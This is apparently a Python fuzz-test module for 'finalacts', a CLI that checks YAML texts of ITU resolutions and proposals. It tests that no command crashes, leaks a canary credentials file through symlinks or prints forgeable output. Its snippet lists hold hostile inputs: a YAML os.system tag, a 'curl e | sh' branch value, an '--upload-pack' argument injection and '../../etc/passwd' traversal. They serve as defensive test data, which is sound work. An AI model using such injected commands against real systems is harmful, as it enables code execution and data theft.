"""Hostile input and the invariants every command keeps on it, for the fuzz suite.

A pull request brings files, manifests, branch names and commit messages that anyone may have
crafted. `tests/test_fuzz.py` runs these properties on a small budget in every test run;
`tests/fuzz/run.py --budget SECONDS` runs them for as long as asked and prints how many inputs it
tried. Inputs are real corpus files, manifests, ITU texts and rendered .docx files, mutated by
hypothesis (snippets that broke a command once or might, deletions, moved and re-indented lines,
flipped bytes), plus symbolic links to a canary file outside the corpus.

For every input, every command:
- exits 0, 1 or 2, never 3, and prints no traceback;
- opens no file outside the corpus for writing, reads no file outside it except Python's own and
  the package's, and never shows the canary (a link followed would);
- prints output no file can forge: one finding a line, nothing a terminal would act on;
- `fmt` is lossless (same data, same comments) and idempotent, and refuses nothing `check` reads;
- a cached `check` equals `check --no-cache`.

Commands run in-process (`finalacts.cli.main`, as the console script runs it) so that hundreds of
inputs fit in seconds; an audit hook (sys.addaudithook) sees every file they open.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

from hypothesis import strategies as st

import finalacts
from finalacts.cli import main
from finalacts.corpus import yamlfile
from finalacts.corpus.findings import InputError
from finalacts.workflows.fmt import same

REPO = Path(__file__).resolve().parents[1]
SEEDS = REPO / "tests" / "fixtures" / "seeds"
CANARY = "CANARY-7f3a9-never-shown"

# ---------------------------------------------------------------- what an attacker writes

SNIPPETS = [
    "\t", " ", "  ", "\n", "\n  ", "- ", ": ", ":", "#", " # c", "&a ", "*a", "!!str ",
    "!!python/object/apply:os.system [id]",
    "!custom ", "[", "]", "{", "}", "'", '"', "|", ">-", "? ", "---\n", "...\n", "%YAML 1.1\n", "\ufeff",
    "\u2028", "\u2029", "\x85", "\r", "\r\n", "\u202e", "\u200f", "é", "中文", "ابت", "\U0001f600",
    '"\\e[31mred\\e[0m"', '"\\a"', '"\\x00"', '"\\uFFFE"', '"\\ud800"', '"a\\nresolutions/pp/1.yaml:1:1: error x y"',
    '"x\\r\\n::error::forged"', "9" * 5000, "0x" + "f" * 200, "1" * 101, ".nan", ".inf", "-.inf", "1e400", "1_000",
    "0o17", "true", "null", "~", "num: 1", "num: [a]", "sections: 5", "adopted: {a: 1}", "adopted: 7",
    "adopted: [PP-99]",
    "proposals: 5", "proposals: [5]", "target: ../../etc/passwd", "target: -rf", "branch: \"x && curl e | sh\"",
    "base: --upload-pack=touch /tmp/x", "base: " + "~" * 3000 + "x", "items: " + "[" * 80, "[" * 70 + "]" * 70,
    "the the " * 60, ";;", " ,", "Resolution 71 (Rev. Busan, 2014) of the Plenipotentiary Conference",
    "Resolution 185 (Rev. Dubai, 2099)", "*resolves* 99 above", "[^9]", "[^1]", "*", "**", "…", "\u00a0", "\u2011",
    "ignore: [all]", "ignore: 5", "footnotes: {x: y}", "annexes: [{heading: A, blocks: [{table: [[1, [2]]]}]}]",
    "x" * 3000, "a, b, c, d, e, f, g, h, i, j, k, l, m, n, o, p, q, r, s, t, u, v, w, x, y, z",
]

SNIPPET = st.sampled_from(SNIPPETS) | st.text(min_size=1, max_size=12)

# Values put in place of a key's value: the wrong type where the schema wants another, numbers and
# nestings beyond what the format holds, strings that are escapes.
VALUES = ["1", "5", "-1", "0", "{a: 1}", "{}", "[]", "[5]", "[[a]]", "7", "null", "true", "''", ".nan", ".inf", "1e400",
          "9" * 5000, "0x" + "f" * 400, '"\\e[31m"', '"a\\nb"', '"\\a"', "[" * 300 + "]" * 300,
          "{a: " * 100 + "1" + "}" * 100, "&x 1", "*x", "!!binary aGk=", "a: b", "- x", "|\n  block", "x" * 300,
          "PP-14", "PP-99", "pp/../../etc/passwd", "-x", "constitution"]
_KEYED = re.compile(r"^(\s*(?:- )?)([A-Za-z0-9_\"']+):(?:\s.*)?$")


@st.composite
def mutated(draw, text: str, max_ops: int = 4) -> str:
    """`text` changed in one to `max_ops` places."""
    for _ in range(draw(st.integers(1, max_ops))):
        lines = text.split("\n")
        op = draw(st.sampled_from(["insert", "insert", "replace", "delete", "duplicate", "move", "indent", "line",
                                   "value", "value", "value"]))
        at = draw(st.integers(0, max(len(text), 1)))
        if op == "insert":
            text = text[:at] + draw(SNIPPET) + text[at:]
        elif op == "replace":
            n = draw(st.integers(1, 40))
            text = text[:at] + draw(SNIPPET) + text[at + n:]
        elif op == "delete":
            text = text[:at] + text[at + draw(st.integers(1, 200)):]
        elif op == "value":
            keyed = [i for i, ln in enumerate(lines) if _KEYED.match(ln)]
            if keyed:
                i = draw(st.sampled_from(keyed))
                m = _KEYED.match(lines[i])
                lines[i] = f"{m[1]}{m[2]}: {draw(st.sampled_from(VALUES))}"
                text = "\n".join(lines)
        elif op == "line":
            i = draw(st.integers(0, len(lines) - 1))
            lines.insert(i, " " * draw(st.integers(0, 12)) + draw(SNIPPET))
            text = "\n".join(lines)
        else:
            i = draw(st.integers(0, len(lines) - 1))
            if op == "duplicate":
                lines.insert(i, lines[i])
            elif op == "move":
                lines.insert(draw(st.integers(0, len(lines) - 1)), lines.pop(i))
            else:
                lines[i] = " " * draw(st.integers(0, 3)) + lines[i][draw(st.integers(0, 3)):]
            text = "\n".join(lines)
    return text


@st.composite
def mutated_bytes(draw, raw: bytes, max_flips: int = 8) -> bytes:
    """`raw` with up to `max_flips` bits flipped, bytes dropped or bytes inserted."""
    data = bytearray(raw)
    for _ in range(draw(st.integers(1, max_flips))):
        at = draw(st.integers(0, max(len(data) - 1, 0)))
        op = draw(st.sampled_from(["flip", "flip", "flip", "drop", "insert"]))
        if op == "flip" and data:
            data[at] ^= 1 << draw(st.integers(0, 7))
        elif op == "drop":
            del data[at:at + draw(st.integers(1, 16))]
        else:
            data[at:at] = draw(st.binary(min_size=1, max_size=8))
    return bytes(data)


def corpus_texts() -> dict[str, str]:
    """The shipped corpus files, relpath -> text: the starting points of mutation."""
    out = {}
    for d in ("resolutions", "proposals"):
        for p in sorted((REPO / d).rglob("*.yaml")):
            out[p.relative_to(REPO).as_posix()] = p.read_text(encoding="utf-8")
    return out


# ---------------------------------------------------------------- watching a command


_WATCHING: list[list[tuple[str, str, object]]] = []


def _audit(event: str, args) -> None:
    if not _WATCHING:
        return
    if event == "open":
        path, mode, flags = args
        if isinstance(path, (str, bytes, os.PathLike)):
            _WATCHING[-1].append(("open", os.path.abspath(os.fsdecode(path)), (mode, flags)))
    elif event in ("os.rename", "os.replace", "os.remove", "os.unlink", "os.mkdir", "os.rmdir", "os.symlink",
                   "os.chmod", "os.truncate", "shutil.rmtree"):
        for a in args[:2]:
            if isinstance(a, (str, bytes, os.PathLike)):
                _WATCHING[-1].append((event, os.path.abspath(os.fsdecode(a)), None))


_installed = False


def _install() -> None:
    global _installed
    if not _installed:
        sys.addaudithook(_audit)
        _installed = True


_WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND


def _writes(mode, flags) -> bool:
    if isinstance(mode, str) and any(c in mode for c in "wax+"):
        return True
    return isinstance(flags, int) and bool(flags & _WRITE_FLAGS)


# Where a command may read besides its corpus: Python, the installed packages, the package's
# own data, devices and the kernel's views of the process.
_READABLE = tuple(sorted({os.path.realpath(p) for p in (sys.prefix, sys.base_prefix, sys.exec_prefix,
                                                          os.path.dirname(finalacts.__file__), "/dev", "/proc",
                                                          "/sys", "/usr/lib", "/usr/share", "/usr/local/lib")}))


def _inside(path: str, top: str) -> bool:
    return path == top or path.startswith(top.rstrip(os.sep) + os.sep)


@dataclass
class Run:
    args: list[str]
    code: int
    out: str
    err: str
    touched: list[tuple[str, str, object]] = field(default_factory=list)

    def __str__(self) -> str:
        return (f"finalacts {' '.join(self.args)} -> {self.code}\n--- stdout\n{self.out[:3000]}\n"
                f"--- stderr\n{self.err[:3000]}")


def cli(cwd: Path, *args: str) -> Run:
    """`finalacts ARGS` run in-process in `cwd`, with every file it opens recorded."""
    _install()
    out, err = io.StringIO(), io.StringIO()
    _WATCHING.append([])
    try:
        with contextlib.chdir(cwd), contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(list(args))
    finally:
        touched = _WATCHING.pop()
    return Run(list(args), code, out.getvalue(), err.getvalue(), touched)


# ---------------------------------------------------------------- the invariants


_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
FINDING = re.compile(r"^[^\n]+:\d+:\d+: (error|warning|info) [a-z]+(-[a-z]+)+ [^\n]*$")
SUMMARY = re.compile(r"^\d+ files? checked: (no problems|\d+ errors?, \d+ warnings?(, \d+ info)? in \d+ files?)$")
FMT_LINE = re.compile(r"^((would reformat|reformatted) \S[^\n]*|\d+ files? (would reformat|reformatted), \d+ unchanged"
                      r"(, \d+ unreadable)?)$")


def holds(run: Run, root: Path, codes=(0, 1, 2)) -> None:
    """What every command keeps: its exit code, no traceback, no canary, nothing printed raw that a
    terminal acts on, no file outside `root` written and none read but Python's own."""
    assert run.code in codes, str(run)
    text = run.out + run.err
    assert "Traceback" not in text and "internal error" not in text, str(run)
    assert CANARY not in text, str(run)
    assert not _UNSAFE.search(text.replace("\t", " ")), (repr(_UNSAFE.search(text.replace("\t", " "))), str(run))
    top = os.path.realpath(root)
    for event, path, how in run.touched:
        full = os.path.abspath(path)
        # Where the open lands: through every link, unless it was opened without following the
        # last one (O_NOFOLLOW), which then fails on a link.
        nofollow = event == "open" and isinstance(how[1], int) and how[1] & getattr(os, "O_NOFOLLOW", 0)
        where = (os.path.join(os.path.realpath(os.path.dirname(full)), os.path.basename(full))
                 if nofollow or event != "open" else os.path.realpath(full))
        if event != "open" or _writes(*how):
            assert _inside(where, top) or where == os.devnull, f"{event} {path} outside the corpus\n{run}"
        else:
            assert _inside(where, top) or any(_inside(where, r) for r in _READABLE), \
                f"read {path} ({where}) outside the corpus\n{run}"


def human_lines(run: Run, findings: int) -> None:
    """The human format: exactly one line per finding, then the summary."""
    lines = run.out.rstrip("\n").split("\n")
    assert len(lines) == findings + 1, str(run)
    assert all(FINDING.match(ln) for ln in lines[:-1]) and SUMMARY.match(lines[-1]), str(run)


def github_lines(run: Run, findings: int) -> None:
    lines = [ln for ln in run.out.split("\n") if ln]
    assert len(lines) == findings and all(re.match(r"^::(error|warning|notice) file=", ln) for ln in lines), str(run)


def check_everything(root: Path, paths: list[str]) -> None:
    """`check` on `paths` (the whole corpus when empty) in every format, cached and not."""
    plain = cli(root, "check", "--no-cache", "--format", "json", *paths)
    holds(plain, root)
    findings = json.loads(plain.out)["findings"]
    for fmt, lines in (("human", human_lines), ("github", github_lines)):
        run = cli(root, "check", "--no-cache", "--format", fmt, *paths)
        holds(run, root)
        lines(run, len(findings))
    sarif = cli(root, "check", "--no-cache", "--format", "sarif", *paths)
    holds(sarif, root)
    assert len(json.loads(sarif.out)["runs"][0]["results"]) == len(findings)
    for _ in range(2):  # the first fills the cache, the second reads it
        cached = cli(root, "check", "--format", "json", *paths)
        holds(cached, root)
        assert json.loads(cached.out)["findings"] == findings, str(cached)


def _comments(text: str):
    try:
        _, c = yamlfile.find_comments(text, "x.yaml")
    except InputError:
        return None
    return sorted(c.header + c.trailing + [x for v in c.lead.values() for x in v] + [x for v in c.eol.values()
                                                                                     for x in v])


def _data(text: str):
    try:
        return yamlfile.to_data(text, "x.yaml").data
    except InputError:
        return None


def fmt_everything(root: Path, rel: str) -> None:
    """`fmt --check`, `fmt` and `fmt` again on one file: lossless, idempotent, refusing only what
    cannot be read, never touching a file it refuses."""
    path = root / rel
    before = path.read_bytes()
    try:
        text = before.decode("utf-8")
    except UnicodeDecodeError:
        text = None
    checked = cli(root, "fmt", "--check", rel)
    holds(checked, root)
    assert path.read_bytes() == before, "fmt --check changed the file"
    run = cli(root, "fmt", rel)
    holds(run, root)
    assert all(FMT_LINE.match(ln) for ln in run.out.rstrip("\n").split("\n")), str(run)
    assert all(FINDING.match(ln) or ln.startswith("finalacts: ") for ln in run.err.rstrip("\n").split("\n") if ln), \
        str(run)
    if run.code == 2 or checked.code == 2:
        assert path.read_bytes() == before, "fmt changed a file it could not read"
        # fmt refuses only what the loader refuses: never "cannot format this file" for a file
        # check reads.
        assert "cannot format this file without changing it" not in run.err, str(run)
        return
    after = path.read_text(encoding="utf-8")
    assert text is not None
    if after != text:
        assert run.code == 1, str(run)
        assert same(_data(after), _data(text)), "fmt changed the data"
        assert _comments(after) == _comments(text), "fmt lost or changed a comment"
    again = cli(root, "fmt", rel)
    holds(again, root, codes=(0,))
    assert path.read_text(encoding="utf-8") == after, "fmt is not idempotent"


def renumber_everything(root: Path, rel: str) -> None:
    """`fmt --renumber` twice: no crash, comments kept, and the second run finds nothing to do."""
    path = root / rel
    before = path.read_bytes()
    run = cli(root, "fmt", "--renumber", rel)
    holds(run, root)
    if run.code == 2 or path.read_bytes() == before:
        return
    after = path.read_text(encoding="utf-8")
    assert _comments(after) == _comments(before.decode("utf-8")), "fmt --renumber lost a comment"
    again = cli(root, "fmt", "--renumber", rel)
    holds(again, root, codes=(0, 1))


# ---------------------------------------------------------------- places to run in


def fresh_corpus(dest: Path, files: dict[str, str | bytes]) -> Path:
    """A corpus at `dest` holding the shipped corpus with `files` written over it, and a canary
    file outside it (at dest.parent / "outside")."""
    if dest.exists():
        shutil.rmtree(dest)
    for d in ("resolutions", "proposals"):
        shutil.copytree(REPO / d, dest / d)
    for rel, content in files.items():
        p = dest / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass"))
    outside = dest.parent / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "credentials.yaml").write_text(_CANARY_FILE, encoding="utf-8")
    return dest


# What a credentials file outside the corpus holds: a key and values a finding would quote if the
# file were ever read (an unknown key, a wrong body, a title).
_CANARY_FILE = f"{CANARY}: {CANARY}\nbody: {CANARY}\nnumber: 1\ntitle: {CANARY}\nadopted: [{CANARY}]\nsections: []\n"


LINKS = st.sampled_from([None, None, None, "resolutions/pp/9.yaml", "resolutions/ra", "proposals/pp-18/L.yaml"])


def add_link(root: Path, where: str | None) -> None:
    """A symbolic link at `where` in the corpus to the canary (or its folder)."""
    if where is None:
        return
    outside = root.parent / "outside"
    target = outside if where == "resolutions/ra" else outside / "credentials.yaml"
    link = root / where
    link.parent.mkdir(parents=True, exist_ok=True)
    if link.is_symlink() or link.exists():
        return
    link.symlink_to(target, target_is_directory=target.is_dir())


GIT_ENV = {"GIT_AUTHOR_NAME": "Fuzz", "GIT_AUTHOR_EMAIL": "fuzz@example.org", "GIT_COMMITTER_NAME": "Fuzz",
           "GIT_COMMITTER_EMAIL": "fuzz@example.org", "GIT_CONFIG_NOSYSTEM": "1"}


def git(root: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, text=True,
                          env={**os.environ, **GIT_ENV}).stdout


# ---------------------------------------------------------------- the targets
#
# Each target is (strategy of one input, function that runs the commands on it in a folder and
# asserts the invariants). test_fuzz.py gives each a small budget; tests/fuzz/run.py a large one.

TEXTS = corpus_texts()
RESOLUTIONS = sorted(k for k in TEXTS if k.startswith("resolutions/"))
MANIFESTS = sorted(k for k in TEXTS if k.startswith("proposals/"))


@st.composite
def corpus_input(draw, sources=None):
    """(relpath, new content, link) for one mutated corpus file; the content is text, or bytes
    now and then (flipped bits: invalid UTF-8)."""
    rel = draw(st.sampled_from(sources or sorted(TEXTS)))
    text = draw(mutated(TEXTS[rel]))
    content: str | bytes = text
    if draw(st.integers(0, 9)) == 0:
        content = draw(mutated_bytes(text.encode("utf-8", "surrogatepass"), 3))
    return rel, content, draw(LINKS)


@st.composite
def check_input(draw):
    """A corpus input, checked as a whole corpus or as the one file pre-commit names."""
    return draw(corpus_input()), draw(st.booleans())


def run_check(case, work: Path) -> None:
    (rel, content, link), whole = case
    root = fresh_corpus(work / "corpus", {rel: content})
    add_link(root, link)
    check_everything(root, [] if whole else [rel])


def run_fmt(case, work: Path) -> None:
    rel, content, link = case
    root = fresh_corpus(work / "corpus", {rel: content})
    add_link(root, link)
    fmt_everything(root, rel)
    if link:
        canary = (root.parent / "outside" / "credentials.yaml").read_text(encoding="utf-8")
        run = cli(root, "fmt")
        holds(run, root, codes=(2,))
        assert (root / link).is_symlink(), "fmt replaced a link"
        assert (root.parent / "outside" / "credentials.yaml").read_text(encoding="utf-8") == canary


def run_renumber(case, work: Path) -> None:
    rel, content, _ = case
    root = fresh_corpus(work / "corpus", {rel: content})
    renumber_everything(root, rel)


@st.composite
def gate_input(draw):
    """A proposal branch with its manifest mutated, and now and then a text changed, added as a
    link, or a commit message mutated."""
    manifest = _with_value(GATE["manifest"], draw(st.sampled_from([None, "proposals", "base", "branch", "id"])),
                           draw(st.sampled_from(VALUES)))
    manifest = draw(mutated(manifest))
    text = _with_value(GATE["text"], draw(st.sampled_from([None, None, "adopted", "number", "body"])),
                       draw(st.sampled_from(VALUES)))
    text = draw(st.none() | mutated(text, 2)) if text == GATE["text"] else text
    return manifest, text, draw(st.sampled_from([None, None, "resolutions/pp/ACP-9.yaml"])), \
        draw(mutated("Edit\n\nProposal: ACP/64A1/3\n", 2))


def _with_value(text: str, key: str | None, value: str) -> str:
    """`text` with the value of its top-level `key` replaced by `value` (unchanged for None)."""
    if key is None:
        return text
    return re.sub(rf"^{key}:.*$", lambda m: f"{key}: {value}", text, count=1, flags=re.M)


GATE: dict[str, str] = {}  # the APT manifest and a MOD target of gitcorpus.build, read once it is made


def gate_base(dest: Path, built: Path | None = None) -> Path:
    """The gate's starting point: gitcorpus.build's history (a copy of `built` when given)."""
    if built is not None and not dest.exists():
        shutil.copytree(built, dest, symlinks=True)
    if not (dest / ".git").exists():
        sys.path.insert(0, str(REPO / "tests"))
        import gitcorpus

        saved = {k: os.environ.get(k) for k in GIT_ENV}
        os.environ.update(GIT_ENV)
        try:
            gitcorpus.build(dest)
        finally:
            for k, v in saved.items():
                if v is None:
                    os.environ.pop(k, None)
                else:
                    os.environ[k] = v
    GATE["manifest"] = (dest / "proposals/pp-18/ACP-64A1.yaml").read_text(encoding="utf-8")
    GATE["text"] = (dest / "resolutions/pp/11.yaml").read_text(encoding="utf-8")
    return dest


def run_gate(case, work: Path) -> None:
    manifest, text, link, message = case
    root = work / "gate"
    if root.exists():
        shutil.rmtree(root)
    shutil.copytree(work / "gate-base", root, symlinks=True)
    (root / "proposals/pp-18/ACP-64A1.yaml").write_text(manifest, encoding="utf-8", errors="surrogatepass")
    if text is not None:
        (root / "resolutions/pp/11.yaml").write_text(text, encoding="utf-8", errors="surrogatepass")
    outside = work / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "credentials.yaml").write_text(_CANARY_FILE, encoding="utf-8")
    if link:
        (root / link).symlink_to(outside / "credentials.yaml")
    git(root, "add", "-A")
    git(root, "commit", "-q", "--no-verify", "--allow-empty", "-m", "fuzz\n\nProposal: ACP/64A1/3")
    report = cli(root, "proposal", "check", "--format", "json")
    holds(report, root)
    findings = json.loads(report.out)["findings"] if report.out.strip() else []
    if report.out.strip():
        for fmt, lines in (("human", human_lines), ("github", github_lines)):
            run = cli(root, "proposal", "check", "--format", fmt)
            holds(run, root)
            lines(run, len(findings))
    if link:  # refused: as a link, or before that as a manifest the gate cannot read or use
        # (a `base` that is no edition stops it before it looks at the texts: exit 1)
        if any(f["rule"] == "input-symlink" for f in findings):
            assert report.code == 2, str(report)
        else:
            assert report.code in (1, 2) and all(f["path"].startswith("proposals/") for f in findings), str(report)
            assert report.code == 2 or any(f["severity"] == "error" for f in findings), str(report)
    # The commit-msg hook on a staged change and a mutated message.
    (root / "resolutions/pp/140.yaml").write_text(TEXTS["resolutions/pp/140.yaml"] + "# more\n", encoding="utf-8")
    git(root, "add", "resolutions/pp/140.yaml")
    (root / ".git" / "COMMIT_EDITMSG").write_text(message, encoding="utf-8", errors="surrogatepass")
    hook = cli(root, "hook", "commit-msg", ".git/COMMIT_EDITMSG")
    holds(hook, root, codes=(0, 1, 2))
    assert all(FINDING.match(ln) or ln.startswith("finalacts: ") for ln in hook.err.rstrip("\n").split("\n") if ln)


SEED_TEXTS = {p.name: p.read_text(encoding="utf-8") for p in sorted(SEEDS.glob("*.txt"))}


@st.composite
def import_input(draw):
    name = draw(st.sampled_from(sorted(SEED_TEXTS)))
    return name, draw(mutated(SEED_TEXTS[name], 6)), draw(st.sampled_from(["resolution", "proposals"]))


def run_import(case, work: Path) -> None:
    name, text, what = case
    root = work / "import"
    if root.exists():
        shutil.rmtree(root)
    (root / "resolutions").mkdir(parents=True)
    src = root / name
    src.write_text(text, encoding="utf-8", errors="surrogatepass")
    args = ["import", what, name] + (["-o", "out.yaml"] if what == "resolution" else [])
    run = cli(root, *args)
    holds(run, root)
    for written in [root / "out.yaml", *(root / "imported").rglob("*.yaml"), *(root / "proposals").rglob("*.yaml")]:
        if written.is_file():
            holds(cli(root, "check", "--no-cache", str(written.relative_to(root))), root)


DOCX: dict[str, bytes] = {}  # made once per run: a rendered proposal-style document


def docx_base(work: Path) -> bytes:
    """A .docx rendered by finalacts (tracked changes) in the gate's base repository."""
    if "doc" not in DOCX:
        root = work / "gate-base"
        run = cli(root, "render", "pp/11", "--base", "PP-14", "--head", "proposals/pp-18/ACP-64A1",
                  "-o", str(work / "base.docx"))
        assert run.code == 0, str(run)
        DOCX["doc"] = (work / "base.docx").read_bytes()
    return DOCX["doc"]


@st.composite
def docx_input(draw):
    import zipfile

    raw = DOCX["doc"]
    how = draw(st.sampled_from(["bytes", "xml", "xml"]))
    if how == "bytes":
        return draw(mutated_bytes(raw))
    z = zipfile.ZipFile(io.BytesIO(raw))
    part = draw(st.sampled_from(["word/document.xml", "word/document.xml", "word/footnotes.xml", "word/styles.xml",
                                 "[Content_Types].xml", "word/_rels/document.xml.rels"]))
    names = z.namelist()
    xml = z.read(part).decode("utf-8") if part in names else ""
    xml = draw(mutated(xml, 3)) if draw(st.booleans()) else xml.replace(
        "<w:body>", "<w:body>" + draw(st.sampled_from(["<w:p/>", "<w:tbl/>", "<w:bookmarkEnd w:id='9'/>",
                                                       "<w:bookmarkStart w:id='9' w:name='_fa_x'/>", "<!-- c -->",
                                                       "&amp;", "<x:y/>"])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for n in names:
            if n != part:
                dst.writestr(n, z.read(n))
        if xml or part in names:
            dst.writestr(part, xml.encode("utf-8", "surrogatepass"))
    return out.getvalue()


def run_docx(raw: bytes, work: Path) -> None:
    root = work / "gate-base"
    path = work / "fuzz.docx"
    path.write_bytes(raw)
    verify = cli(root, "verify-docx", str(path), "--old", "PP-14", "--new", "proposals/pp-18/ACP-64A1")
    holds(verify, work)
    out = work / "docx-import"
    if out.exists():
        shutil.rmtree(out)
    out.mkdir()
    imported = cli(out, "import", "resolution", str(path), "-o", "out.yaml")
    holds(imported, work)


NAMES = st.text(min_size=0, max_size=300) | st.sampled_from(["-x", "--upload-pack=x", "a..b", "~" * 3000 + "x",
                                                              "a" * 5000, "HEAD~1", "PP-14^2", "x@{1}", "a/.b"])


def run_names(name: str, work: Path) -> None:
    from finalacts.corpus.findings import UsageError
    from finalacts.git.names import check_ref_name, check_relpath, check_rev

    for check in (check_rev, check_ref_name, check_relpath):
        try:
            check(name)
        except UsageError as e:
            assert len(str(e)) < 400 and "\n" not in repr(str(e))


TARGETS = {
    "check": (check_input(), run_check),
    "fmt": (corpus_input(), run_fmt),
    "renumber": (corpus_input(RESOLUTIONS), run_renumber),
    "gate": (gate_input(), run_gate),
    "import": (import_input(), run_import),
    "docx": (docx_input(), run_docx),
    "names": (NAMES, run_names),
}


def prepare(work: Path, built: Path | None = None) -> None:
    """What the targets share: the gate's repository (a copy of `built`, else built here) and the
    rendered .docx."""
    gate_base(work / "gate-base", built)
    docx_base(work)
